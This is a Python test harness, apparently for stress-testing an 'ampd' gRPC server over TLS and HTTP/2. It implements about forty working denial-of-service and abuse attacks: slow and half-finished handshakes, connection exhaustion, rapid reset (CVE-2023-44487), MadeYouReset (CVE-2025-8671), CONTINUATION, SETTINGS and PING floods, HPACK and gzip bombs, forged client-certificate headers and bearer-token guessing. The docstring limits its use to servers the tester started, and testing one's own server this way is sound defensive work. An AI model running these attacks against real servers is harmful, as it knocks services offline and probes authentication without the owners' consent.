#!/usr/bin/env python3
"""Attacks of one client on a server with TLS, each bounded in count and time. Runs one of them:

    http2_attacks.py NAME HOST:PORT FOLDER [BINARIES] [CERTIFICATE]

FOLDER has ca.pem, and the certificates and keys mallory.pem (trusted, with the role viewer) and foreign.pem (of another
authority). CERTIFICATE: the certificate to use instead of mallory, or "none". The last line of the output is JSON with
what happened. Attack only servers that you started.
"""
import collections
import contextlib
import dataclasses
import gzip
import json
import pathlib
import random
import ssl
import struct
import subprocess
import sys
import time

import http2
from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE,
                   PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, Connection, call, call_fields, frame, literal, message)

LIST_JOBS, GET_JOB, CANCEL_JOB = (f"ampd.v1.JobService/{name}" for name in ("ListJobs", "GetJob", "CancelJob"))
WATCH_JOB, TAIL_LOGS = "ampd.v1.JobService/WatchJob", "ampd.v1.JobService/TailLogs"
WHO_AM_I = "ampd.v1.AuthService/WhoAmI"
REFLECTION = "grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
HEALTH_WATCH = "grpc.health.v1.Health/Watch"
CANCEL = struct.pack(">I", 8)
HELD_SECONDS = 2  # How long an attack keeps its connections when it has sent everything.
# Longer than a client may take for its handshake: 5 s with the server, 10 s with the proxy.
SLOW_SECONDS = 13
# The attacker's addresses. Honest clients come from another one, as they do on a network.
SOURCES = [f"127.0.1.{number}" for number in range(1, 21)]
RANDOM = random.Random(1)
ATTACKS = {}


@dataclasses.dataclass(frozen=True)
class Attack:
    """One attack. `certified`: it begins after a handshake with a certificate."""
    run: object
    title: str
    certified: bool


def attack(title, certified=True):
    def add(function):
        ATTACKS[function.__name__] = Attack(function, title, certified)
        return function
    return add


class Target:
    """Whom the attacks attack, and as whom."""

    def __init__(self, address, folder, binaries, name="mallory"):
        self.address, self.folder, self.binaries, self.name = address, folder, binaries, name
        self.job = (folder / "job").read_text().strip().encode() if (folder / "job").exists() else b"none"

    def tcp(self, number=0):
        return http2.tcp(self.address, SOURCES[number % len(SOURCES)])

    def tcp_of_one(self, _number):
        """Connects from the attacker's first address."""
        return self.tcp()

    def context(self, **options):
        return http2.tls_context(self.folder, self.name, **options)

    def connect(self, context=None, number=0, **options):
        return Connection(context or self.context(), self.address, SOURCES[number % len(SOURCES)], **options)

    @property
    def id_request(self):
        """A request whose field 1 is the id of a job that exists."""
        return field(1, self.job)


def field(number, value):
    """Returns a protobuf field of bytes."""
    return http2.integer(number << 3 | 2, 8) + varint(len(value)) + value


def varint(value):
    out = bytearray()
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out + bytes([value]))


def streams(count, first=1):
    """Returns the numbers of the first streams of a client."""
    return range(first, first + 2 * count, 2)


def told(connection, num_sent, what, hold=HELD_SECONDS):
    """Waits a little with the connection open. Returns what happened on it."""
    connection.drain(hold)
    return {"sent": f"{num_sent} {what}", "bytes": connection.sent, "ended": connection.ended,
            "seen": dict(connection.seen), "errors": {str(key): count for key, count in connection.resets.items()},
            "answers": connection.answers[:200].decode("latin-1")}


def one_flood(target, frames, what, reads=True, greeting=None):
    """Sends the frames over one connection."""
    with target.connect(**({"greeting": greeting} if greeting else {})) as connection:
        return told(connection, connection.flood(frames, reads), what)


def calls_flood(target, calls):
    """Sends the calls over one connection, with fewer unanswered than the server allows."""
    with target.connect() as connection:
        connection.drain(0.2)
        return told(connection, connection.flood_calls(calls), "calls")


def many(target, count, what, use, hold=HELD_SECONDS, connect=None):
    """Opens connections and calls use(connection) for each. Counts how they end."""
    ends, kept, context = collections.Counter(), [], target.context()
    for number in range(count):
        try:
            connection = connect(number) if connect else target.connect(context, number=0)
            use(connection)
            kept.append(connection)
        except OSError as error:
            ends[f"no connection: {getattr(error, 'reason', None) or error}"] += 1
    until = time.monotonic() + hold
    num_closed = 0
    while time.monotonic() < until and num_closed < len(kept):
        num_closed = sum(is_closed(connection) for connection in kept)
        time.sleep(0.1)
    for connection in kept:
        connection.close()
    seen = sum((connection.seen for connection in kept if isinstance(connection, Connection)), collections.Counter())
    ended = collections.Counter(connection.ended for connection in kept
                                if isinstance(connection, Connection) and connection.ended)
    return {"sent": f"{count} {what}", "opened": len(kept), "closed": num_closed, "ends": dict(ends), "ended": dict(ended),
            "seen": dict(seen)}


def is_closed(connection):
    if isinstance(connection, Connection):
        return not connection.drain()
    connection.settimeout(0)
    try:
        return connection.recv(4096) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


# --- Before a handshake has ended ---


@attack("connections that send nothing", certified=False)
def silence(target):
    return many(target, 300, "connections", lambda one: None, SLOW_SECONDS, target.tcp_of_one)


def client_hello(target):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    side = target.context().wrap_bio(incoming, outgoing)
    with contextlib.suppress(ssl.SSLWantReadError):
        side.do_handshake()
    return outgoing.read()


@attack("half a TLS greeting, then nothing", certified=False)
def half_hello(target):
    half = client_hello(target)[:100]
    return many(target, 300, "connections", lambda one: one.sendall(half), SLOW_SECONDS, target.tcp_of_one)


@attack("a TLS greeting, and no answer to that of the server", certified=False)
def half_handshake(target):
    hello = client_hello(target)
    return many(target, 300, "connections", lambda one: one.sendall(hello), SLOW_SECONDS, target.tcp_of_one)


@attack("random bytes instead of TLS", certified=False)
def garbage(target):
    return many(target, 300, "connections", lambda one: one.sendall(RANDOM.randbytes(4096)), HELD_SECONDS, target.tcp_of_one)


@attack("HTTP/1.1 and HTTP/2 without TLS", certified=False)
def plaintext(target):
    texts = [b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", PREFACE + frame(SETTINGS, 0, 0, b"") + call(1, LIST_JOBS)]
    return many(target, 300, "connections", lambda one: one.sendall(RANDOM.choice(texts)), HELD_SECONDS, target.tcp_of_one)


@attack("handshakes with TLS 1.0, 1.1 and 1.2", certified=False)
def old_tls(target):
    accepted = collections.Counter()
    for version in (ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1, ssl.TLSVersion.TLSv1_2):
        context = target.context(newest=version)
        for _ in range(30):
            with contextlib.suppress(OSError), target.connect(context) as connection:
                accepted[connection.socket.version()] += 1
    return {"sent": "90 handshakes", "accepted": dict(accepted)}


@attack("full TLS handshakes, one after the other")
def handshakes(target):
    context, accepted = target.context(), collections.Counter()
    for _ in range(1000):
        try:
            target.connect(context).close()
            accepted["accepted"] += 1
        except OSError:
            accepted["refused"] += 1
    return {"sent": "1,000 handshakes", **accepted}


@attack("handshakes with a certificate of another authority, then calls", certified=False)
def foreign_certificate(target):
    context = http2.tls_context(target.folder, "foreign")
    return many(target, 200, "connections", lambda one: one.send(call(1, WHO_AM_I)), HELD_SECONDS,
                lambda number: target.connect(context))


@attack("handshakes without a certificate, then calls", certified=False)
def no_certificate(target):
    context = http2.tls_context(target.folder, None)
    return many(target, 200, "connections", lambda one: one.send(call(1, WHO_AM_I)), HELD_SECONDS,
                lambda number: target.connect(context))


@attack("more connections than server or proxy take, from 20 addresses", certified=False)
def too_many_connections(target):
    return many(target, 4500, "connections", lambda one: None, SLOW_SECONDS, target.tcp)


# --- HTTP/2 frames ---


@attack("an HTTP/2 greeting of one byte each half second")
def slow_greeting(target):
    context = target.context()
    connections = [target.connect(context, greeting=b"") for _ in range(100)]
    for at in range(2 * SLOW_SECONDS):
        for connection in connections:
            connection.send(PREFACE[at:at + 1])
            connection.drain()
        time.sleep(0.5)
    num_closed = sum(connection.ended is not None for connection in connections)
    for connection in connections:
        connection.close()
    return {"sent": "100 connections", "closed": num_closed}


@attack("one header block of 300 CONTINUATION frames, without an end")
def continuation_flood(target):
    block = literal(b"", b"") * 5461  # Empty fields cost the server the most memory for each byte.
    frames = [frame(HEADERS, 0, 1, b"\x82"), *[frame(CONTINUATION, 0, 1, block)] * 300]
    return one_flood(target, frames, "frames", reads=False)


@attack("empty CONTINUATION frames")
def empty_continuations(target):
    frames = [frame(HEADERS, 0, 1, b"\x82"), *[frame(CONTINUATION, 0, 1, b"")] * 50_000]
    return one_flood(target, frames, "frames", reads=False)


@attack("rapid reset (CVE-2023-44487): calls, each cancelled at once")
def rapid_reset(target):
    fields = call_fields(LIST_JOBS)
    frames = (frame(HEADERS, END_STREAM | END_HEADERS, stream, fields) + frame(RST_STREAM, 0, stream, CANCEL)
              for stream in streams(5000))
    return one_flood(target, frames, "calls")


@attack("MadeYouReset (CVE-2025-8671): calls that the server has to reset")
def made_you_reset(target):
    frames = (call(stream, LIST_JOBS) + frame(WINDOW_UPDATE, 0, stream, bytes(4)) for stream in streams(5000))
    return calls_flood(target, frames)


@attack("SETTINGS frames whose acknowledgements are not read")
def settings_flood(target):
    one = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535))
    return one_flood(target, [one] * 50_000, "frames", reads=False)


@attack("PING frames whose answers are not read")
def ping_flood(target):
    return one_flood(target, [frame(PING, 0, 0, bytes(8))] * 50_000, "frames", reads=False)


@attack("empty DATA frames of one call")
def empty_data(target):
    frames = [frame(HEADERS, END_HEADERS, 1, call_fields(GET_JOB)), *[frame(DATA, 0, 1, b"")] * 50_000]
    return one_flood(target, frames, "frames")


@attack("PRIORITY frames of streams that do not exist")
def priority_flood(target):
    frames = (frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 16)) for stream in streams(50_000))
    return one_flood(target, frames, "frames")


@attack("windows that overflow, and updates of zero")
def window_overflow(target):
    def use(connection):
        connection.send(call(1, WHO_AM_I) + frame(WINDOW_UPDATE, 0, 1, b"\x7f\xff\xff\xff") * 2 +
                        frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff") * 2 + frame(WINDOW_UPDATE, 0, 0, bytes(4)))
    return many(target, 200, "connections", use)


@attack("streams with forbidden numbers")
def bad_streams(target):
    fields = call_fields(WHO_AM_I)
    whole = END_HEADERS | END_STREAM
    bad = [frame(HEADERS, whole, 2, fields), frame(HEADERS, whole, 9, fields) + frame(HEADERS, whole, 3, fields),
           frame(DATA, 0, 77, b"x"), frame(HEADERS, whole, 0, fields), frame(RST_STREAM, 0, 99, CANCEL),
           frame(HEADERS, whole, 0x7FFFFFFF, fields) + frame(HEADERS, whole, 1, fields)]
    return many(target, 200, "connections", lambda one: one.send(RANDOM.choice(bad)))


@attack("calls after a GOAWAY")
def goaway_ignored(target):
    frames = (frame(GOAWAY, 0, 0, bytes(8)) + call(stream, WHO_AM_I) for stream in streams(2000))
    return one_flood(target, frames, "calls")


@attack("streams beyond the limit, none of which ends")
def too_many_streams(target):
    fields = call_fields(GET_JOB)
    return one_flood(target, (frame(HEADERS, END_HEADERS, stream, fields) for stream in streams(5000)), "streams")


@attack("headers beyond the limit of 8 KiB")
def large_headers(target):
    more = [(f"x-{number}".encode(), b"v" * 250) for number in range(60)]
    return calls_flood(target, (call(stream, WHO_AM_I, b"", *more) for stream in streams(500)))


@attack("HPACK bomb: 64 MiB of headers in 16 KiB")
def hpack_bomb(target):
    value = b"v" * 3900
    entry = b"\x40" + b"\x01a" + http2.integer(len(value), 7) + value
    frames = [frame(HEADERS, END_HEADERS | END_STREAM, 1, call_fields(WHO_AM_I) + entry)]
    frames += [frame(HEADERS, END_HEADERS | END_STREAM, stream, call_fields(WHO_AM_I) + b"\xbe" * 16000)
               for stream in streams(20, 3)]
    return one_flood(target, frames, "calls")


# --- Calls ---


@attack("answers that are not read: a stream window of zero")
def answers_not_read(target):
    greeting = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    return one_flood(target, (call(stream, LIST_JOBS) for stream in streams(900)), "calls", greeting=greeting)


@attack("requests of one byte a second")
def slow_requests(target):
    with target.connect() as connection:
        for stream in streams(500):
            connection.send(frame(HEADERS, END_HEADERS, stream, call_fields(GET_JOB)))
        for at in range(SLOW_SECONDS):
            connection.flood(frame(DATA, 0, stream, message(bytes(100))[at:at + 1]) for stream in streams(500))
            connection.drain(1)
        return told(connection, 500, "calls", 0)


@attack("messages that do not end")
def unfinished_messages(target):
    with target.connect() as connection:
        connection.drain(0.3)
        for stream in streams(200):
            connection.send(frame(HEADERS, END_HEADERS, stream, call_fields(GET_JOB)))
        data = {stream: message(bytes(400_000), length=4_000_000) for stream in streams(200)}
        until = time.monotonic() + 5
        num_sent = 0
        while data and time.monotonic() < until and connection.drain(0.01):
            for stream in list(data):
                size = connection.send_data(stream, data[stream][:32_768])
                num_sent += size
                data[stream] = data[stream][size:]
                if not data[stream]:
                    del data[stream]
        return told(connection, num_sent >> 20, "MiB of 200 messages")


@attack("messages said to have 4 GiB")
def huge_length(target):
    frames = (frame(HEADERS, END_HEADERS, stream, call_fields(GET_JOB)) +
              frame(DATA, 0, stream, message(b"x", length=0xFFFFFFFF)) for stream in streams(500))
    return one_flood(target, frames, "calls")


@attack("one message without an end, said to have 4 GiB")
def endless_message(target):
    with target.connect() as connection:
        connection.drain(0.3)
        connection.send(frame(HEADERS, END_HEADERS, 1, call_fields(GET_JOB)))
        connection.send(frame(DATA, 0, 1, message(b"", length=0xFFFFFFFF)))
        num_sent, until = 0, time.monotonic() + 4
        while num_sent < 128 << 20 and time.monotonic() < until and connection.drain(0.001):
            num_sent += connection.send_data(1, bytes(max(0, min(connection.window, 1 << 20))))
        return told(connection, num_sent >> 20, "MiB")


def send_whole(connection, stream, data):
    """Sends a stream's data and its end as the server's windows allow, for 3 s at most. Returns whether all was sent."""
    at, until = 0, time.monotonic() + 3
    while at < len(data) and time.monotonic() < until and connection.drain(0.001) and stream not in connection.ended_streams:
        size = min(16384, len(data) - at)
        at += connection.send_data(stream, data[at:at + size], END_STREAM if at + size == len(data) else 0)
    return at == len(data)


@attack("gzip bombs: 256 MiB of zeros in 255 KiB")
def gzip_bomb(target):
    bomb = message(gzip.compress(bytes(256 << 20)), compressed=1)
    with target.connect() as connection:
        connection.drain(0.3)
        for stream in streams(4):
            connection.send(frame(HEADERS, END_HEADERS, stream, call_fields(GET_JOB, (b"grpc-encoding", b"gzip"))))
            send_whole(connection, stream, bomb)
        return told(connection, 4, "messages")


@attack("watches of a job, each cancelled at once")
def watch_resets(target):
    frames = (call(stream, WATCH_JOB, target.id_request) + frame(RST_STREAM, 0, stream, CANCEL) for stream in streams(3000))
    return one_flood(target, frames, "watches")


def open_streams(target, method, request, num_connections, end=END_STREAM):
    """Opens 900 streams on each connection and holds them."""
    context = target.context()
    with contextlib.ExitStack() as stack:
        connections = [stack.enter_context(target.connect(context)) for _ in range(num_connections)]
        for connection in connections:
            connection.flood(frame(HEADERS, END_HEADERS, stream, call_fields(method)) +
                             frame(DATA, end, stream, message(request)) for stream in streams(900))
        for connection in connections:
            connection.drain(HELD_SECONDS / num_connections)
        return told(connections[0], 900 * num_connections, "streams", 0)


@attack("many watches of a job")
def many_watches(target):
    return open_streams(target, WATCH_JOB, target.id_request, 3)


@attack("many followers of a log")
def many_followers(target):
    return open_streams(target, TAIL_LOGS, target.id_request + b"\x20\x01", 3)


@attack("many streams of reflection")
def reflection_streams(target):
    return open_streams(target, REFLECTION, field(7, b""), 2, end=0)


@attack("many watches of the health")
def health_watches(target):
    return open_streams(target, HEALTH_WATCH, b"", 2)


@attack("headers that claim another's certificate")
def forged_identity(target):
    der = (target.folder / "alice.der64").read_bytes()
    names = [(b"x-ampd-client-cert", der), (b"x-forwarded-for", b"10.0.0.1"), (b"x-ampd-anything", b"1")]
    return calls_flood(target, (call(stream, WHO_AM_I, b"", *names) for stream in streams(500)))


@attack("an authorization of 15 KB")
def large_authorization(target):
    more = (b"authorization", b"Bearer " + b"x" * 15_000)
    return calls_flood(target, (call(stream, WHO_AM_I, b"", more) for stream in streams(500)))


@attack("guesses of tokens")
def token_guesses(target):
    frames = (call(stream, LIST_JOBS, b"", (b"authorization", b"Bearer ampd_" + RANDOM.randbytes(26).hex().encode()))
              for stream in streams(4000))
    return calls_flood(target, frames)


@attack("refused calls, for a long audit log")
def refused_calls(target):
    frames = (call(stream, CANCEL_JOB, field(1, RANDOM.randbytes(16).hex().encode())) for stream in streams(4000))
    return calls_flood(target, frames)


@attack("filters of 4 MB")
def long_filters(target):
    text = b" AND ".join([b'state = "RUNNING"'] * 180_000)[:4_000_000]
    with target.connect() as connection:
        connection.drain(0.3)
        for stream in streams(5):
            connection.send(frame(HEADERS, END_HEADERS, stream, call_fields(LIST_JOBS)))
            send_whole(connection, stream, message(field(3, text)))
        return told(connection, 5, "calls")


ESTIMATE = """
name: small
model: {gpt2: {n_layer: 256}}
data: {train: {tokens: {path: d/x, sequence_length: 1024}}, batch_size: 1}
optimizer: {sgd: {learning_rate: 0.01}}
train: {steps: 1, memory_budget_bytes: 1}
"""


@attack("the most expensive estimates, eight at once")
def estimates(target):
    spec = target.folder / "estimate.yaml"
    spec.write_text(ESTIMATE)
    flags = ["--address", target.address, "--ca", target.folder / "ca.pem"]
    flags += ["--cert", target.folder / f"{target.name}.pem", "--key", target.folder / f"{target.name}.key"]
    running = [subprocess.Popen([target.binaries / "ampctl", *flags, "job", "submit", "--dry-run", "-f", spec],
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) for _ in range(8)]
    time.sleep(5)
    for process in running:
        process.kill()
        process.wait()
    return {"sent": "8 estimates, their clients killed after 5 s"}


def main():
    name, address, folder = sys.argv[1:4]
    binaries = pathlib.Path(sys.argv[4]) if len(sys.argv) > 4 else None
    certificate = sys.argv[5] if len(sys.argv) > 5 else "mallory"
    target = Target(address, pathlib.Path(folder), binaries, None if certificate == "none" else certificate)
    try:
        result = ATTACKS[name].run(target)
    except OSError as error:  # The server refused the connection that the attack needs.
        result = {"sent": "nothing", "ended": str(error)}
    print(json.dumps(result))


if __name__ == "__main__":
    main()
